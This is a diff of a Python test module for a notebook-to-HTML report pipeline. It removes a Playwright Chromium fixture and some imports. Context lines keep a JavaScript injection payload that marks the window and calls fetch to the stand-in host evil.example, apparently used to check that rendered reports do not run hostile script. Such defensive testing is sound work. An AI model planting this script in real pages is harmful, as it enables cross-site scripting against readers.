@@ -2,9 +2,6 @@
 
 from __future__ import annotations
 
-import os
-import shutil
-from collections.abc import Iterator
 from pathlib import Path
 
 import nbformat
@@ -16,7 +13,6 @@ from pipeline.figures.contract import FIGURE_MIME, PROSE_MIME, TABLE_MIME
 from pipeline.reports.chapter import ChapterRenderer, environment, new_exporter
 from pipeline.reports.scripts import TEMPLATES
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or ""
 #: Whatever runs leaves its mark on the window and asks the network.
 MARK = "(window.hacked=window.hacked||[]).push(1),fetch('https://evil.example/')"
 ATTACKS = (
@@ -88,22 +84,6 @@ def hostile_notebook(path: Path, name: str = "dichte") -> Path:
     }})  # fmt: skip
     path.write_text(nbformat.writes(notebook), encoding="utf-8")
     return path
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[object]:
-    from playwright.sync_api import sync_playwright
-
-    if not CHROMIUM:
-        if os.environ.get("VERSORGUNGSLABOR_TESTS") == "all":
-            pytest.fail("Chromium is not installed")
-        pytest.skip("Chromium is not installed")
-    with sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(
-            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--no-first-run"]
-        )
-        yield chromium
-        chromium.close()
 
 
 def page_of(html: str, *, policy: str = "") -> str:
